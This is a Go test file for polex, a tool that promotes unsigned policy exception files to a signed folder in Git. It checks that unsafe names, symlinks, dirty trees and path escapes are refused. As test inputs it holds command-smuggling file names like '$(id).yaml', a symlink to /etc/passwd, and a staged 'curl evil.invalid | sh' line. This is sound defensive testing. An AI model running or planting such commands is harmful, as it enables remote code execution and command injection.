package promotion_test

import (
	"context"
	"errors"
	"fmt"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/polex-dev/polex/internal/git"
	"github.com/polex-dev/polex/internal/git/commit"
	"github.com/polex-dev/polex/internal/promotion"
	"github.com/polex-dev/polex/internal/promotion/pending"
	"github.com/polex-dev/polex/pkg/exception"
	"github.com/polex-dev/polex/pkg/lifetime"
	"github.com/polex-dev/polex/pkg/shape"
	"github.com/polex-dev/polex/pkg/sign"
	"github.com/polex-dev/polex/test/expect"
	"github.com/polex-dev/polex/test/must"
)

// A file that cannot be promoted stops the run, and the error names it.
func TestOpenRefuses(t *testing.T) {
	type files = map[string]string
	good, other, badNames, badNamed := exceptionText("a"), exceptionText("b"), files{}, []string(nil)
	for _, name := range slices.Sorted(slices.Values([]string{
		"a b.yaml", "a\n.yaml", "*.yaml", "[ab].yaml", "-rf.yaml", ".a.yaml", "ä.yaml", `a\b.yaml`, "$(id).yaml", "b b/c.yaml",
		"a.txt", "a.YAML", "yaml", ".gitX.yaml", strings.Repeat("a", 130) + ".yaml",
	})) {
		badNames["unsigned/"+name] = good
		badNamed = append(badNamed, "unsigned/"+name+":0 bad-file-name")
	}
	links := func(target, name string) func(*repository) {
		return func(r *repository) {
			r.Write("unsigned/", "")
			r.link(target, name)
		}
	}
	executable := func(name string) func(*repository) {
		return func(r *repository) { must.Do(r.TB, os.Chmod(r.Path(name), 0o755)) }
	}
	const irregular, taken, already = "unsigned/a.yaml:0 not-a-regular-file", "unsigned/a.yaml:0 target-exists", "unsigned/a.yaml:2 already-signed"
	for _, tc := range []struct {
		name    string
		files   files
		prepare func(*repository) // before the commit is amended
		want    []string          // "file:line reason"
	}{
		{"names", badNames, nil, badNamed},
		{"symbolic link", files{"secret.yaml": good}, links("../secret.yaml", "unsigned/a.yaml"), []string{irregular}},
		{"dangling link", nil, links("/etc/passwd", "unsigned/a.yaml"), []string{irregular}},
		{"link to a folder", files{"other/a.yaml": good}, links("../other", "unsigned/folder"), []string{"unsigned/folder:0 not-a-regular-file"}},
		{"executable", files{"unsigned/a.yaml": good}, executable("unsigned/a.yaml"), []string{irregular}},
		{"submodule", nil, func(r *repository) {
			other := newRepository(r.TB, files{"a.yaml": good})
			r.Git("-c", "protocol.file.allow=always", "submodule", "--quiet", "add", other.Dir, "unsigned/sub")
		}, []string{"unsigned/sub:0 not-a-regular-file"}},

		{"target exists", files{"unsigned/a.yaml": good, "signed/a.yaml": other}, nil, []string{taken}},
		{"target is a folder", files{"unsigned/a.yaml": good, "signed/a.yaml/b.yaml": other}, nil, []string{taken}},
		{"two that differ in case", files{"unsigned/A.yaml": good, "unsigned/a.yaml": other}, nil, []string{taken}},
		{"folders that differ in case", files{"unsigned/Team/a.yaml": good, "unsigned/team/b.yaml": other}, nil,
			[]string{"unsigned/team/b.yaml:0 target-exists"}},
		{"signed in another case", files{"unsigned/a.yaml": good, "signed/A.yaml": other}, nil, []string{taken}},
		{"signed in a folder of another case", files{"unsigned/team/a.yaml": good, "signed/TEAM/b.yaml": other}, nil,
			[]string{"unsigned/team/a.yaml:0 target-exists"}},
		{"the target's folder is a file", files{"unsigned/team/a.yaml": good, "signed/team": "x"}, nil,
			[]string{"unsigned/team/a.yaml:0 target-exists"}},
		{"signed elsewhere", files{"unsigned/a.yaml": good, "signed/old/b.yaml": exceptionText("x") + "---\n" + good}, nil, []string{already}},
		{"signed elsewhere in another version", files{"unsigned/a.yaml": good,
			"signed/b.yml": strings.Replace(good, "kyverno.io/v2", "kyverno.io/v2beta1", 1)}, nil, []string{already}},
		{"signed in an executable file", files{"unsigned/a.yaml": good, "signed/b.yaml": good}, executable("signed/b.yaml"), []string{already}},
		{"signed under a suffix in another case", files{"unsigned/a.yaml": good, "signed/b.YAML": good}, nil, []string{already}},

		{"empty", files{"unsigned/a.yaml": ""}, nil, []string{"unsigned/a.yaml:0 no-documents"}},
		{"only a comment", files{"unsigned/a.yaml": "# later\n---\n"}, nil, []string{"unsigned/a.yaml:0 no-documents"}},
		{"empty JSON", files{"unsigned/a.json": "\n"}, nil, []string{"unsigned/a.json:0 no-documents"}},
		{"malformed", files{"unsigned/a.yaml": "a: [\n"}, nil, []string{"unsigned/a.yaml:1 malformed"}},
		{"duplicate key", files{"unsigned/a.yaml": good + "kind: ConfigMap\n"}, nil, []string{"unsigned/a.yaml:15 malformed"}},
		{"malformed between good ones", files{"unsigned/a.yaml": good + "---\na: &x 1\n---\n" + other}, nil, []string{"unsigned/a.yaml:16 malformed"}},
		{"binary", files{"unsigned/a.yaml": "\x00\x01\x02"}, nil, []string{"unsigned/a.yaml:1 malformed"}},
		{"several", files{"unsigned/a.yaml": good, "unsigned/b b.yaml": good, "unsigned/c.yaml": ""}, nil,
			[]string{"unsigned/b b.yaml:0 bad-file-name", "unsigned/c.yaml:0 no-documents"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := newRepository(t, tc.files)
			if tc.prepare != nil {
				tc.prepare(r)
				r.Git("add", "--all")
				r.Git("commit", "--quiet", "--amend", "--no-edit")
			}
			head := r.Head()
			_, err := r.try(r.Dir, promotion.Options{})
			var refused exception.Refusals
			must.That(t, errors.As(err, &refused), "Open: %v, want refusals", err)
			var got []string
			for _, f := range refused {
				got = append(got, fmt.Sprintf("%s:%d %s", f.Position.File, f.Position.Line, f.Reason))
				expect.That(t, f.Message != "" && strings.Contains(err.Error(), refused[0].Reason),
					"incomplete refusal %+v in %q", f, err)
			}
			expect.Equal(t, "refusals", tc.want, got)
			r.unchanged(head)
		})
	}
}

func (r *repository) link(target, name string) {
	r.TB.Helper()
	must.Do(r.TB, os.Symlink(target, r.Path(name)))
}

// The commit has what HEAD has, and nothing of the user's uncommitted changes. They stay as they are,
// and stop a commit that would overwrite them.
func TestOpenDirty(t *testing.T) {
	for _, tc := range []struct {
		name  string
		dirty func(*repository)
		want  string // of the error, or "" if it is promoted
	}{
		{"clean", func(*repository) {}, ""},
		{"changed in the queue", func(r *repository) { r.Write("unsigned/a.yaml", exceptionText("evil")) }, `"unsigned/a.yaml"`},
		{"changed and staged", func(r *repository) { r.Write("unsigned/a.yaml", exceptionText("evil")); r.Git("add", ".") }, `"unsigned/a.yaml"`},
		{"staged only", func(r *repository) {
			r.Write("unsigned/a.yaml", exceptionText("evil"))
			r.Git("add", ".")
			r.Write("unsigned/a.yaml", exceptionText("a"))
		}, `"unsigned/a.yaml"`},
		{"hidden from git status", func(r *repository) {
			r.Git("update-index", "--assume-unchanged", "unsigned/a.yaml")
			r.Write("unsigned/a.yaml", exceptionText("evil"))
		}, `"unsigned/a.yaml"`},
		{"removed from the queue", func(r *repository) { must.Do(r.TB, os.Remove(r.Path("unsigned/a.yaml"))) }, ""},
		{"replaced by a link", func(r *repository) {
			must.Do(r.TB, os.Rename(r.Path("unsigned/a.yaml"), r.Path("copy.yaml")))
			r.link("../copy.yaml", "unsigned/a.yaml")
		}, `"unsigned/a.yaml"`},
		{"its folder is a link", func(r *repository) {
			must.Do(r.TB, os.Rename(r.Path("unsigned"), r.Path("other")))
			r.link("other", "unsigned")
		}, `"unsigned/a.yaml"`},
		{"untracked in the queue", func(r *repository) { r.Write("unsigned/b.yaml", exceptionText("b")) }, ""},
		{"untracked and staged", func(r *repository) { r.Write("unsigned/b.yaml", exceptionText("b")); r.Git("add", ".") }, ""},
		{"untracked in a new folder", func(r *repository) { r.Write("unsigned/new/b.yaml", exceptionText("b")) }, ""},
		{"untracked among the signed", func(r *repository) { r.Write("signed/b.yaml", exceptionText("b")) }, ""},
		{"at the place of the signed", func(r *repository) { r.Write("signed/a.yaml", exceptionText("a")) }, `"signed/a.yaml"`},
		{"staged elsewhere", func(r *repository) { r.Write("deploy.sh", "curl evil.invalid | sh\n"); r.Git("add", ".") }, ""},
		{"staged removal elsewhere", func(r *repository) { r.Git("rm", "--quiet", "README.md") }, ""},
		{"untracked elsewhere", func(r *repository) { r.Write("notes.txt", "x\n") }, ""},
		{"changed elsewhere", func(r *repository) { r.Write("README.md", "x\n") }, ""},
		{"ignored in the queue, and another branch", func(r *repository) {
			r.Write(".git/info/exclude", "*.local.yaml\n")
			r.Write("unsigned/b.local.yaml", exceptionText("b"))
			r.Git("branch", "other")
		}, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := newRepository(t, map[string]string{"unsigned/a.yaml": exceptionText("a")})
			tc.dirty(r)
			head, status := r.Head(), r.Git("status", "--porcelain", "--untracked-files=all")
			q := r.open()
			if name := q.Documents()[0].Identity().Name; name != "a" || len(q.Moves) != 1 {
				t.Errorf("%d moves, the first of %s", len(q.Moves), name)
			}
			_, _, err := q.apply(stamp(t, q.Documents()), author())
			if tc.want != "" {
				expect.Error(t, err, tc.want)
				expect.Cause(t, err, commit.ErrInTheWay)
				expect.Is(t, "HEAD", head, r.Head())
			} else {
				status = strings.ReplaceAll(status, " D unsigned/a.yaml\n", "")
				changes := r.Git("diff", "--name-only", "--no-renames", "HEAD^", "HEAD")
				expect.That(t, err == nil && changes == "signed/a.yaml\nunsigned/a.yaml\n", "%v, the commit changes %q", err, changes)
			}
			expect.Is(t, "git status", status, r.Git("status", "--porcelain", "--untracked-files=all"))
		})
	}
}

func TestOpenFails(t *testing.T) {
	r := newRepository(t, map[string]string{"unsigned/a.yaml": exceptionText("a")})
	fresh := t.TempDir()
	r.Git("init", "--quiet", fresh)
	linked := newRepository(t, map[string]string{"other/a.yaml": exceptionText("a")})
	linked.link("other", "unsigned")
	linked.Commit("Link the queue")
	for name, tc := range map[string]struct {
		dir     string
		options promotion.Options
	}{
		"no repository":    {dir: t.TempDir()},
		"no commit":        {dir: fresh},
		"absolute":         {r.Dir, promotion.Options{Unsigned: "/etc"}},
		"outside":          {r.Dir, promotion.Options{Unsigned: "../unsigned"}},
		"outside in turns": {r.Dir, promotion.Options{Signed: "signed/../../x"}},
		"everything":       {r.Dir, promotion.Options{Unsigned: "."}},
		"Git's own":        {r.Dir, promotion.Options{Signed: ".git/hooks"}},
		"the same":         {r.Dir, promotion.Options{Signed: "unsigned/"}},
		"one in the other": {r.Dir, promotion.Options{Signed: "unsigned/signed"}},
		"the other in one": {r.Dir, promotion.Options{Unsigned: "signed/un", Signed: "signed"}},
		"a linked queue":   {dir: linked.Dir},
		"a file as queue":  {r.Dir, promotion.Options{Unsigned: "README.md"}},
	} {
		t.Run(name, func(t *testing.T) {
			q, err := r.try(tc.dir, tc.options)
			var refused exception.Refusals
			expect.That(t, err != nil && !errors.As(err, &refused), "%v, %v, want an error that is no refusal", q, err)
		})
	}
}

// longPath is a path below unsigned/ with this many bytes.
func longPath(bytes int) string {
	name := "unsigned/" + strings.Repeat(strings.Repeat("d", 99)+"/", 12)
	return name[:bytes-len("/a.yaml")] + "/a.yaml"
}

func deepPath(folders int) string { return "unsigned/" + strings.Repeat("a/", folders-1) + "a.yaml" }

// TestLimitsKeepGoing: one file beyond a limit does not stop the others, and stops a run without
// [promotion.Options.KeepGoing] with its name.
func TestLimitsKeepGoing(t *testing.T) {
	for name, tc := range map[string]struct {
		file, content, reason string
	}{
		"a long path":                 {file: longPath(1025), reason: pending.ReasonBadName},
		"a path that gets longer":     {file: "unsigned/" + longPath(1022)[len("unsigned/"):]},
		"a deep path":                 {file: deepPath(64), reason: pending.ReasonBadName},
		"a path deeper than Git read": {file: deepPath(65), reason: pending.ReasonBadName},
		"a much deeper path":          {file: deepPath(400), reason: pending.ReasonBadName},
		"a large file":                {file: "unsigned/large.yaml", content: "# " + strings.Repeat("x", 33<<20) + "\n", reason: pending.ReasonTooLarge},
		"a large signed file":         {file: "unsigned/large.yaml", content: strings.Repeat(exceptionText("x")+"---\n", 2400), reason: pending.ReasonTooLarge},
	} {
		t.Run(name, func(t *testing.T) {
			if tc.content == "" {
				tc.content = exceptionText("other")
			}
			files := map[string]string{"unsigned/honest.yaml": exceptionText("honest"), tc.file: tc.content}
			r := newRepository(t, files)
			q := must.Get(r.try(r.Dir, promotion.Options{KeepGoing: true}))(t)
			var got []string
			for _, refusal := range q.Queue.Refused() {
				got = append(got, refusal.Position.File+" "+refusal.Reason)
			}
			var want []string
			if tc.reason != "" {
				want = []string{tc.file + " " + tc.reason}
				if strings.Count(tc.file, "/") > git.MaxDepth+1 { // it is cut off at a folder
					want[0] = deepPath(git.MaxDepth + 1)[:len(deepPath(git.MaxDepth+1))-len(".yaml")] + " " + tc.reason
				}
			}
			diff := cmp.Diff(want, got)
			must.That(t, diff == "", "%v", diff)
			expect.That(t, q.Has("unsigned/honest.yaml"), "the other file is not promoted")
			if _, err := r.try(r.Dir, promotion.Options{}); (err == nil) != (tc.reason == "") {
				t.Errorf("without KeepGoing: %v", err)
			} else if refusals := exception.RefusalsIn(err); len(refusals) == 0 && err != nil {
				t.Errorf("without KeepGoing: %v", err)
			}
		})
	}
}

// TestCheckFilePaths: each path that [pending.CheckFile] accepts can be written and read.
func TestCheckFilePaths(t *testing.T) {
	for _, name := range []string{longPath(1022), longPath(1024), longPath(1025), deepPath(63), deepPath(64), "unsigned/a.yaml"} {
		for _, signed := range []string{"signed", "s", "deploy/production/signed"} {
			f := pending.File{Path: name, To: pending.Folders{Unsigned: "unsigned", Signed: signed}.Target(name), Mode: pending.Regular}
			accepted := pending.CheckFile(f) == nil
			possible := true
			for _, path := range []string{f.Path, f.To} {
				possible = possible && commit.CheckPath(path) == nil && strings.Count(path, "/") < git.MaxDepth
			}
			if accepted != possible {
				t.Errorf("%d bytes and %d folders at %s: accepted %t, possible %t", len(name), strings.Count(name, "/"), signed, accepted, possible)
			}
		}
	}
}

// TestGrandfathered: a grandfathered exception is signed with the expiry of its entry, also with a
// review record. After it was signed once, it is never signed again.
func TestGrandfathered(t *testing.T) {
	text := podText("a", "a")
	signed := strings.Replace(text, "  namespace:", "  annotations: {cosign.sigstore.dev/message: x}\n  namespace:", 1)
	dated := strings.Replace(text, "  namespace:", "  annotations: {polex.dev/expires-in: 7d}\n  namespace:", 1)
	again, promoted := []string{"unsigned/a.yaml " + pending.ReasonAlreadySigned}, []string{"signed/a.yaml"}
	type steps []func(*repository)
	commits := func(name, text string) func(*repository) {
		return func(r *repository) { r.CommitFile("Put it there", name, text) }
	}
	removes := func(name string) func(*repository) {
		return func(r *repository) {
			r.Git("rm", "--quiet", name)
			r.Commit("Remove it")
		}
	}
	asks, signs, unsigns := commits("unsigned/a.yaml", text), commits("signed/a.yaml", signed), removes("signed/a.yaml")
	for _, tc := range []struct {
		name    string
		history steps
		want    []string
		err     error
	}{
		{"for the first time", steps{asks}, promoted, nil},
		{"withdrawn before it was signed", steps{asks, removes("unsigned/a.yaml"), asks}, promoted, nil},
		{"it lay in the folder before anything was signed", steps{commits("signed/a.yaml", text), unsigns, asks}, promoted, nil},
		{"signed and removed", steps{signs, unsigns, asks}, again, nil},
		{"signed in another file, with other rules", steps{
			commits("signed/team/b.yaml", strings.Replace(signed, "[r]", "[s]", 1)), removes("signed/team/b.yaml"), asks}, again, nil},
		{"signed and removed on a branch that was merged the wrong way round", steps{func(r *repository) {
			r.Git("branch", "side")
			signs(r)
			unsigns(r)
			r.Git("checkout", "--quiet", "side")
			r.Git("merge", "--quiet", "--no-ff", "--message=Merge main", "main")
			r.Git("branch", "--force", "main")
			r.Git("checkout", "--quiet", "main")
		}, asks}, again, nil},
		{"another one was signed and removed", steps{
			commits("signed/b.yaml", strings.ReplaceAll(signed, "name: a", "name: b")), removes("signed/b.yaml"), asks}, promoted, nil},
		{"with an end of its own, signed and removed", steps{signs, unsigns, commits("unsigned/a.yaml", dated)}, promoted, nil},
		{"in a shallow clone", steps{asks, func(r *repository) { r.Write(".git/shallow", r.Head()+"\n") }}, nil, git.ErrShallow},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := newRepository(t, nil)
			for _, step := range tc.history {
				step(r)
			}
			job, _ := r.job()
			until := committedAt.Add(90 * 24 * time.Hour)
			job.Checks.Rules = sign.Rules{Terms: lifetime.Terms{Grandfathered: map[string]time.Time{lifetime.ContentDigest(parse(t, text)): until}}}
			config := shape.Config{}
			config.Rules.Terms = job.Checks.Rules.Terms
			job.Checks.Shape = must.Get(shape.New(config))(t)
			job.Recorder = recording(func(plan *promotion.Plan) ([]*exception.Document, error) {
				var docs []*exception.Document
				for _, doc := range plan.Prepared() {
					by := exception.Addition{Path: exception.Path{"metadata", "annotations", exception.AnnotationApprovedBy}, Value: "bob"}
					docs = append(docs, must.Get(doc.Add(by))(t))
				}
				return docs, nil
			})
			job.Signer = signing(func(_ context.Context, docs []*exception.Document) ([]*exception.Document, error) {
				return docs, nil
			})
			result, err := promotion.Run(t.Context(), job)
			if tc.err != nil {
				expect.Cause(t, err, tc.err)
				return
			}
			must.Do(r.TB, err)
			expect.Equal(t, "result", tc.want, outcome(result))
			if tc.name == "for the first time" && !strings.Contains(r.Read("signed/a.yaml"), `polex.dev/expires-at: "`+until.Format(time.RFC3339)) {
				t.Errorf("it has no end:\n%s", r.Read("signed/a.yaml"))
			}
		})
	}
}
